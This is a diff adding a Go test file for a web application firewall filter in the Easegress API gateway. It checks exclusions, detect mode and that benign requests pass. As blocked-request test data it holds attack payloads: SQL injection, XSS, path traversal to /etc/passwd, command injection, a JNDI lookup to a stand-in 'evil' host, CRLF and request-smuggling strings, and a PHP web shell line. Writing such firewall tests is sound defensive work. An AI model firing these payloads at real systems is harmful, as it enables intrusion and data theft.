@@ -0,0 +1,134 @@
+/*
+ * Copyright (c) 2017, MegaEase
+ * All rights reserved.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package waf
+
+import (
+	"io/ioutil"
+	"net/http"
+	"testing"
+
+	"github.com/megaease/easegress/pkg/context"
+	"github.com/megaease/easegress/pkg/filter/filtertest"
+	"github.com/megaease/easegress/pkg/object/httppipeline"
+)
+
+func newWAF(t *testing.T, spec map[string]interface{}) *WAF {
+	return filtertest.NewFilter(t, &WAF{}, spec).(*WAF)
+}
+
+func newContext(method, url, body string, headers map[string]string) context.HTTPContext {
+	r := filtertest.NewRequest(method, url, body, headers)
+	r.RequestURI = r.URL.RequestURI()
+	if r.Header.Get("User-Agent") == "" {
+		r.Header.Set("User-Agent", "test")
+	}
+	return filtertest.NewContext(r)
+}
+
+func TestRules(t *testing.T) {
+	w := newWAF(t, map[string]interface{}{"inspectBody": true})
+
+	cases := []struct {
+		url     string
+		body    string
+		headers map[string]string
+		blocked bool
+	}{
+		{url: "http://example.com/products?id=42&sort=name", blocked: false},
+		{url: "http://example.com/search?q=select+a+chair+from+our+union", blocked: false},
+		{url: "http://example.com/?id=1+UNION+SELECT+password+FROM+users", blocked: true},
+		{url: "http://example.com/?id=1'+or+'1'='1", blocked: true},
+		{url: "http://example.com/?name=<script>alert(1)</script>", blocked: true},
+		{url: "http://example.com/static/%2e%2e/%2e%2e/etc/passwd", blocked: true},
+		{url: "http://example.com/?file=../../etc/passwd", blocked: true},
+		{url: "http://example.com/?host=example.com;cat+/etc/hosts", blocked: true},
+		{url: "http://example.com/", headers: map[string]string{"X-Api-Version": "${jndi:ldap://evil/a}"}, blocked: true},
+		{url: "http://example.com/?x=a%0d%0aSet-Cookie:+session=evil", blocked: true},
+		{url: "http://example.com/upload", body: "a=1\r\nGET /admin HTTP/1.1\r\nHost: internal", blocked: true},
+		{url: "http://example.com/comment", body: `{"text": "<?php system($_GET['c']); ?>"}`, blocked: true},
+	}
+
+	for i, c := range cases {
+		ctx := newContext(http.MethodPost, c.url, c.body, c.headers)
+		result := w.handle(ctx)
+		if blocked := result == resultBlocked; blocked != c.blocked {
+			t.Errorf("case %d (%s): blocked should be %v, got %v", i, c.url, c.blocked, blocked)
+		}
+		if c.body != "" {
+			if body, _ := ioutil.ReadAll(ctx.Request().Body()); string(body) != c.body {
+				t.Errorf("case %d: body should be kept", i)
+			}
+		}
+	}
+
+	// Missing User-Agent only scores 2, which is below the threshold.
+	ctx := newContext(http.MethodGet, "http://example.com/", "", nil)
+	ctx.Request().Header().Del("User-Agent")
+	if result := w.handle(ctx); result != "" {
+		t.Errorf("missing User-Agent alone should not be blocked, got %q", result)
+	}
+
+	status := w.Status().(*Status)
+	if status.Rules["942100"] != 2 || status.Rules["920320"] != 1 {
+		t.Errorf("unexpected rule stats: %v", status.Rules)
+	}
+}
+
+func TestExclusionsAndDetectMode(t *testing.T) {
+	w := newWAF(t, map[string]interface{}{
+		"exclusions": []map[string]interface{}{
+			{"rules": []string{"941100"}, "pathPrefix": "/cms/", "args": []string{"content"}},
+			{"rules": []string{"930110"}, "pathPrefix": "/files/"},
+		},
+	})
+
+	xss := "<script>alert(1)</script>"
+	if result := w.handle(newContext(http.MethodGet, "http://example.com/cms/save?content="+xss, "", nil)); result != "" {
+		t.Errorf("excluded arg should not be inspected, got %q", result)
+	}
+	if result := w.handle(newContext(http.MethodGet, "http://example.com/cms/save?title="+xss, "", nil)); result != resultBlocked {
+		t.Errorf("other args should be inspected, got %q", result)
+	}
+	if result := w.handle(newContext(http.MethodGet, "http://example.com/blog?content="+xss, "", nil)); result != resultBlocked {
+		t.Errorf("other paths should be inspected, got %q", result)
+	}
+	if result := w.handle(newContext(http.MethodGet, "http://example.com/files/?path=../a", "", nil)); result != "" {
+		t.Errorf("excluded rule should be disabled, got %q", result)
+	}
+
+	w = newWAF(t, map[string]interface{}{"mode": "detect"})
+	ctx := newContext(http.MethodGet, "http://example.com/?name="+xss, "", nil)
+	if result := w.handle(ctx); result != "" {
+		t.Errorf("detect mode should not block, got %q", result)
+	}
+	if status := w.Status().(*Status); status.Matched != 1 || status.Blocked != 0 {
+		t.Errorf("unexpected status: %+v", status)
+	}
+}
+
+func TestSpecValidate(t *testing.T) {
+	_, err := httppipeline.NewFilterSpec(&httppipeline.FilterMetaSpec{
+		Name: "waf",
+		Kind: Kind,
+	}, map[string]interface{}{
+		"disabledRules": []string{"999999"},
+	})
+	if err == nil {
+		t.Errorf("unknown rule should be invalid")
+	}
+}